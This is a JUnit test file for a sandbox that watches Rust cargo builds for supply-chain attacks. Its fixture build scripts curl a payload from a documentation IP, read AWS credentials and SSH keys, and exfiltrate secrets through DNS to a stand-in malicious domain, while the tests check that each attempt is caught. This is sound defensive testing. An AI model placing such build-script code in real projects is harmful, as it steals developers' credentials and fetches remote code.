@@ -1,0 +1,367 @@
+package dev.warden.limit;
+
+import com.fasterxml.jackson.databind.JsonNode;
+import com.fasterxml.jackson.databind.ObjectMapper;
+import dev.warden.cli.Main;
+import dev.warden.core.Environment;
+import dev.warden.testing.AttackCrates;
+import dev.warden.testing.AttackProject;
+import dev.warden.testing.CargoTool;
+import dev.warden.testing.Fixtures;
+import dev.warden.testing.TestEnv;
+import org.junit.jupiter.api.Assumptions;
+import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+import java.io.IOException;
+import java.io.PrintWriter;
+import java.io.StringWriter;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.ArrayList;
+import java.util.Arrays;
+import java.util.Base64;
+import java.util.Comparator;
+import java.util.HashMap;
+import java.util.List;
+import java.util.Map;
+import java.util.function.Consumer;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+/**
+ * warden build end to end: real cargo building crates written here, inside a real bubblewrap (or unshare) sandbox,
+ * watched by the real strace. Skipped where cargo, strace or a sandbox is missing (.ci/run installs them).
+ */
+class BuildSandboxTest {
+
+    /** A secret as the caller has it: it must never reach the build. */
+    static final String REAL_SECRET = "wJalrXUtnFEMI-REAL-SECRET-K7MDENGbPxRfiCY";
+
+    @TempDir
+    Path dir;
+
+    private static Path cargo;
+
+    @BeforeAll
+    static void tools() {
+        cargo = CargoTool.find().orElse(null);
+        Assumptions.assumeTrue(cargo != null, "cargo is not installed");
+        SandboxProbe.Capabilities found = SandboxProbe.probe(Environment.system());
+        Assumptions.assumeTrue(found.tracer() != null && found.sandbox() != SandboxProbe.Kind.NONE,
+                "no sandbox or tracer here: " + found.problems());
+    }
+
+    record Run(int status, String out, String err) {
+        JsonNode json() throws Exception {
+            return new ObjectMapper().readTree(out);
+        }
+    }
+
+    /** The caller's environment: real toolchain, a home of the test's own, and a secret that must stay out. */
+    private Map<String, String> callerEnv() {
+        Map<String, String> env = new HashMap<>();
+        env.put("PATH", cargo.getParent() + ":/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin");
+        Path realHome = Path.of(System.getProperty("user.home"));
+        env.put("CARGO_HOME", System.getenv().getOrDefault("CARGO_HOME", realHome.resolve(".cargo").toString()));
+        env.put("RUSTUP_HOME", System.getenv().getOrDefault("RUSTUP_HOME", realHome.resolve(".rustup").toString()));
+        env.put("AWS_SECRET_ACCESS_KEY", REAL_SECRET);
+        env.put("LANG", "C.UTF-8");
+        return env;
+    }
+
+    private Run warden(Map<String, String> env, Path workdir, String... args) {
+        StringWriter out = new StringWriter();
+        StringWriter err = new StringWriter();
+        int status = Main.run(args, new PrintWriter(out), new PrintWriter(err),
+                TestEnv.at(workdir, dir.resolve("home"), env));
+        return new Run(status, out.toString(), err.toString());
+    }
+
+    /** The attack project with url-parse written by {@code urlParse}, locked at 2.1.1. */
+    private Path project(Consumer<Path> urlParse) {
+        Path app = AttackProject.write(dir, urlParse);
+        Fixtures.write(app, "Cargo.lock", AttackProject.lockfile(true));
+        return app;
+    }
+
+    private Run build(Path app, String... extra) {
+        List<String> args = new ArrayList<>(List.of("build", "--format", "json"));
+        args.addAll(List.of(extra));
+        args.addAll(List.of("--", "cargo", "build", "--locked"));
+        return warden(callerEnv(), app, args.toArray(String[]::new));
+    }
+
+    private static List<JsonNode> events(JsonNode report, String kind, String crate) {
+        List<JsonNode> events = new ArrayList<>();
+        report.path("events").forEach(e -> {
+            if (e.path("kind").asText().equals(kind) && (crate == null || crate.equals(e.path("crate").asText()))) {
+                events.add(e);
+            }
+        });
+        return events;
+    }
+
+    private static List<String> ids(JsonNode report) {
+        List<String> ids = new ArrayList<>();
+        report.path("findings").forEach(f -> ids.add(f.path("id").asText() + ":" + f.path("crate").asText()));
+        return ids;
+    }
+
+    private static String decodedLabels(String name) {
+        String[] labels = name.split("\\.");
+        String data = String.join("", Arrays.copyOf(labels, labels.length - 2));
+        return new String(Base64.getUrlDecoder().decode(data + "=".repeat((4 - data.length() % 4) % 4)),
+                StandardCharsets.ISO_8859_1);
+    }
+
+    private void assertSeedAttackCaught(Run run) throws Exception {
+        assertThat(run.status()).as(run.err()).isEqualTo(Main.EXIT_FINDINGS);
+        JsonNode report = run.json();
+        List<JsonNode> dns = events(report, "dns", "url-parse");
+        assertThat(dns).isNotEmpty();
+        assertThat(dns.getFirst().path("role").asText()).isEqualTo("build script");
+        String query = dns.getFirst().path("target").asText();
+        assertThat(query).endsWith(".malicious-domain.com");
+        String loot = decodedLabels(query);
+        // What left was a decoy shaped like the secret: the caller's value never reached the build script.
+        assertThat(loot).doesNotContain(REAL_SECRET).matches("[A-Za-z0-9]{40};ghp_[A-Za-z0-9]{36};");
+        JsonNode alert = report.path("findings").get(0);
+        assertThat(alert.path("id").asText()).isEqualTo("dns-exfiltration");
+        assertThat(alert.path("severity").asText()).isEqualTo("critical");
+        assertThat(alert.path("crate").asText()).isEqualTo("url-parse");
+        assertThat(alert.path("secrets").asText()).isEqualTo("AWS_SECRET_ACCESS_KEY, GITHUB_TOKEN");
+        assertThat(report.path("removedVariables").toString()).contains("AWS_SECRET_ACCESS_KEY");
+        assertThat(report.path("metrics").path("blockedEgress").asInt()).isPositive();
+        assertThat(report.path("metrics").path("detectionLatencyMs").asDouble()).isBetween(0.0, 10_000.0);
+        assertThat(Files.readString(dir.resolve("app/target/warden/events.db"), StandardCharsets.ISO_8859_1))
+                .doesNotContain(REAL_SECRET);
+    }
+
+    @Test
+    void theSeedAttackIsCaughtAndTheSecretNeverReachesTheBuildScript() throws Exception {
+        Path app = project(d -> AttackCrates.urlParse(d, AttackCrates.EXFILTRATING_BUILD_SCRIPT));
+        Run run = build(app);
+        assertSeedAttackCaught(run);
+        assertThat(run.json().path("protection").asText()).startsWith("bubblewrap");
+
+        Run text = warden(callerEnv(), app, "events", "--kind", "dns");
+        assertThat(text.out()).contains("dns      build script  url-parse", "malicious-domain.com",
+                "ALERT critical dns-exfiltration");
+        Run ecs = warden(callerEnv(), app, "events", "--export", "ecs", "--kind", "dns");
+        String[] lines = ecs.out().strip().split("\n");
+        JsonNode first = new ObjectMapper().readTree(lines[0]);
+        assertThat(first.path("event").path("action").asText()).isEqualTo("dns");
+        assertThat(first.path("dns").path("question").path("registered_domain").asText()).isEqualTo("malicious-domain.com");
+        assertThat(first.path("package").path("name").asText()).isEqualTo("url-parse");
+        JsonNode alert = new ObjectMapper().readTree(lines[lines.length - 1]);
+        assertThat(alert.path("event").path("kind").asText()).isEqualTo("alert");
+        assertThat(alert.path("rule").path("id").asText()).isEqualTo("dns-exfiltration");
+        assertThat(alert.path("event").path("severity").asInt()).isEqualTo(99);
+    }
+
+    @Test
+    void theUnshareSandboxCatchesItToo() throws Exception {
+        Assumptions.assumeTrue(SandboxProbe.which(Environment.system(), "ip").isPresent(), "iproute2 missing");
+        Path app = project(d -> AttackCrates.urlParse(d, AttackCrates.EXFILTRATING_BUILD_SCRIPT));
+        Run run = build(app, "--sandbox", "unshare");
+        assertSeedAttackCaught(run);
+        assertThat(run.json().path("protection").asText()).startsWith("unshare");
+    }
+
+    @Test
+    void aConnectionToAnIpLiteralIsBlockedAndReported() throws Exception {
+        Path app = project(d -> AttackCrates.urlParse(d, """
+                fn main() {
+                    let address = "203.0.113.7:443".parse().unwrap();
+                    let _ = std::net::TcpStream::connect_timeout(&address, std::time::Duration::from_secs(2));
+                }
+                """));
+        JsonNode report = build(app).json();
+        List<JsonNode> connects = events(report, "connect", "url-parse");
+        assertThat(connects).singleElement().satisfies(e -> {
+            assertThat(e.path("target").asText()).isEqualTo("203.0.113.7:443");
+            assertThat(e.path("error").asText()).isEqualTo("ENETUNREACH");
+        });
+        assertThat(ids(report)).containsExactly("egress-attempt:url-parse");
+    }
+
+    @Test
+    void curlIsRunButGoesNowhere() throws Exception {
+        Assumptions.assumeTrue(SandboxProbe.which(Environment.system(), "curl").isPresent(), "curl missing");
+        Path app = project(d -> AttackCrates.urlParse(d, """
+                fn main() {
+                    let _ = std::process::Command::new("curl")
+                        .args(["-s", "-m", "3", "http://203.0.113.9/payload.sh"]).status();
+                }
+                """));
+        JsonNode report = build(app).json();
+        List<JsonNode> execs = events(report, "exec", "url-parse").stream()
+                .filter(e -> e.path("target").asText().endsWith("/curl")).toList();
+        assertThat(execs).as(report.path("events").toString()).isNotEmpty();
+        assertThat(execs.getFirst().path("detail").asText()).isEqualTo("curl -s -m 3 http://203.0.113.9/payload.sh");
+        assertThat(events(report, "connect", "url-parse")).anySatisfy(e ->
+                assertThat(e.path("target").asText()).isEqualTo("203.0.113.9:80"));
+        assertThat(ids(report)).contains("network-tool-run:url-parse", "egress-attempt:url-parse");
+    }
+
+    @Test
+    void aProcMacroLookupIsPinnedOnTheMacro() throws Exception {
+        Path app = AttackProject.write(dir, AttackCrates::urlParseMacro);
+        Path utilities = dir.resolve("vendor/rust-utilities-v2-2.1.1");
+        Fixtures.write(utilities, "src/lib.rs", """
+                #[derive(url_parse::Parse)]
+                pub struct Config;
+
+                pub fn normalize(text: &str) -> String {
+                    text.trim().to_lowercase()
+                }
+                """);
+        Fixtures.write(app, "Cargo.lock", AttackProject.lockfile(true));
+        JsonNode report = build(app).json();
+        List<JsonNode> dns = events(report, "dns", "url-parse");
+        assertThat(dns).isNotEmpty().allSatisfy(e -> assertThat(e.path("role").asText()).isEqualTo("proc macro"));
+        assertThat(ids(report)).contains("egress-attempt:url-parse");
+        JsonNode alert = report.path("findings").get(0);
+        assertThat(alert.path("message").asText()).contains("proc macro url-parse (compiling rust-utilities-v2)");
+    }
+
+    @Test
+    void credentialFilesAreDecoysAndReadingThemIsReported() throws Exception {
+        Fixtures.write(dir, "home/.aws/credentials", "[default]\naws_secret_access_key = " + REAL_SECRET + "\n");
+        Path app = project(d -> AttackCrates.urlParse(d, """
+                fn main() {
+                    let home = std::env::var("HOME").unwrap();
+                    let stolen = std::fs::read_to_string(format!("{}/.aws/credentials", home)).unwrap_or_default();
+                    let out = std::env::var("OUT_DIR").unwrap();
+                    std::fs::write(format!("{}/seen", out), stolen).unwrap();
+                }
+                """));
+        JsonNode report = build(app).json();
+        assertThat(events(report, "file", "url-parse")).singleElement().satisfies(e ->
+                assertThat(e.path("target").asText()).isEqualTo(dir.resolve("home/.aws/credentials").toString()));
+        assertThat(ids(report)).containsExactly("secret-file-access:url-parse");
+        Path seen;
+        try (var walk = Files.walk(app.resolve("target"))) {
+            seen = walk.filter(p -> p.getFileName().toString().equals("seen")).findFirst().orElseThrow();
+        }
+        assertThat(Files.readString(seen)).contains("aws_secret_access_key = ").doesNotContain(REAL_SECRET);
+    }
+
+    @Test
+    void aChildThatTriesToOutliveTheBuildIsKilledAndReported() throws Exception {
+        Path app = project(d -> AttackCrates.urlParse(d, """
+                fn main() {
+                    let _ = std::process::Command::new("sh")
+                        .args(["-c", "sleep 317 </dev/null >/dev/null 2>&1 &"]).status();
+                }
+                """));
+        JsonNode report = build(app).json();
+        assertThat(events(report, "outlived", "url-parse")).anySatisfy(e ->
+                assertThat(e.path("target").asText()).isEqualTo("sleep"));
+        assertThat(ids(report)).contains("outlived-build:url-parse");
+        assertThat(ProcessHandle.allProcesses().map(p -> p.info().commandLine().orElse(""))
+                .filter(c -> c.contains("sleep 317"))).isEmpty();
+    }
+
+    @Test
+    void aBenignProjectBuildsUnchangedAndLearnsABaseline() throws Exception {
+        Path app = AttackProject.write(dir, d -> AttackCrates.urlParse(d, AttackCrates.EXFILTRATING_BUILD_SCRIPT));
+        Path tool = dir.resolve("vendor/rust-utilities-v2-2.1.0");
+        Fixtures.write(tool, "build.rs", """
+                fn main() {
+                    let status = std::process::Command::new("rustc").arg("--version").status().unwrap();
+                    assert!(status.success());
+                    println!("cargo:rerun-if-changed=build.rs");
+                }
+                """);
+        Run first = build(app);
+        assertThat(first.status()).as(first.err() + first.out()).isEqualTo(Main.EXIT_OK);
+        assertThat(first.json().path("findings")).isEmpty();
+        assertThat(first.json().path("exitCode").asInt()).isZero();
+        assertThat(Files.isExecutable(app.resolve("target/debug/app"))).isTrue();
+
+        // The build script now also runs a program no clean build ran: first seen, reported, not blocking. (Cargo
+        // never rebuilds a vendored crate it has built, so the old build goes.)
+        deleteRecursively(app.resolve("target/debug"));
+        Fixtures.write(tool, "build.rs", """
+                fn main() {
+                    let status = std::process::Command::new("rustc").arg("--version").status().unwrap();
+                    assert!(status.success());
+                    let _ = std::process::Command::new("/bin/uname").arg("-a").status();
+                }
+                """);
+        Run second = build(app);
+        assertThat(second.status()).isEqualTo(Main.EXIT_OK);
+        assertThat(ids(second.json())).containsExactly("first-seen-executable:rust-utilities-v2");
+    }
+
+    private static void deleteRecursively(Path path) throws IOException {
+        try (var walk = Files.walk(path)) {
+            for (Path p : walk.sorted(Comparator.reverseOrder()).toList()) {
+                Files.delete(p);
+            }
+        }
+    }
+
+    /** Every call the build script is known to make is in the log, once per call. */
+    @Test
+    void noEventIsLost() throws Exception {
+        Path app = project(d -> AttackCrates.urlParse(d, """
+                use std::net::{TcpStream, ToSocketAddrs};
+                use std::time::Duration;
+                fn main() {
+                    for port in [1, 2, 3] {
+                        let address = format!("203.0.113.{}:{}", port, port).parse().unwrap();
+                        let _ = TcpStream::connect_timeout(&address, Duration::from_millis(200));
+                    }
+                    let _ = "one.example.test:80".to_socket_addrs();
+                    let _ = "two.example.test:80".to_socket_addrs();
+                    for _ in 0..2 {
+                        let _ = std::process::Command::new("/bin/true").status();
+                    }
+                    let home = std::env::var("HOME").unwrap();
+                    let _ = std::fs::File::open(format!("{}/.ssh/id_ed25519", home));
+                }
+                """));
+        JsonNode report = build(app).json();
+        // Besides the three connections, only the resolver's socket (loopback, where queries are recorded).
+        assertThat(events(report, "connect", "url-parse")).extracting(e -> e.path("target").asText())
+                .filteredOn(t -> !t.equals("127.0.0.1:53"))
+                .containsExactlyInAnyOrder("203.0.113.1:1", "203.0.113.2:2", "203.0.113.3:3");
+        assertThat(events(report, "dns", "url-parse")).extracting(e -> e.path("target").asText())
+                .containsOnly("one.example.test", "two.example.test").contains("one.example.test", "two.example.test");
+        assertThat(events(report, "exec", "url-parse")).filteredOn(e -> e.path("target").asText().equals("/bin/true"))
+                .hasSize(2);
+        assertThat(events(report, "file", "url-parse")).singleElement().satisfies(e ->
+                assertThat(e.path("target").asText()).endsWith("/.ssh/id_ed25519"));
+
+        // The log holds the same events as the report.
+        Run logged = warden(callerEnv(), app, "events", "--build", "latest", "--crate", "url-parse", "--format", "json");
+        assertThat(logged.json().path("events")).hasSize(events(report, "connect", "url-parse").size()
+                + events(report, "dns", "url-parse").size() + events(report, "exec", "url-parse").size()
+                + events(report, "file", "url-parse").size());
+    }
+
+    @Test
+    void withoutASandboxItRefusesUnlessToldAndThenSaysNothingIsProtected() throws Exception {
+        Path app = project(d -> AttackCrates.urlParse(d, "fn main() {}\n"));
+        Map<String, String> bare = callerEnv();
+        bare.put("PATH", cargo.getParent().toString());
+        Run refused = warden(bare, app, "build");
+        assertThat(refused.status()).isEqualTo(Main.EXIT_ERROR);
+        assertThat(refused.err()).contains("refusing to build: bubblewrap is not installed", "--no-sandbox")
+                .doesNotContain("Exception");
+        Run unprotected = warden(bare, app, "build", "--no-sandbox", "--format", "json");
+        assertThat(unprotected.err()).contains("NOTHING IS PROTECTED");
+        assertThat(unprotected.json().path("protection").asText()).startsWith("NONE");
+        assertThat(ids(unprotected.json())).containsExactly("build-unprotected:null");
+
+        Files.delete(app.resolve("Cargo.lock"));
+        Run unlocked = warden(callerEnv(), app, "build");
+        assertThat(unlocked.status()).isEqualTo(Main.EXIT_ERROR);
+        assertThat(unlocked.err()).contains("no lockfile: refusing to build dependencies that are not pinned");
+    }
+}
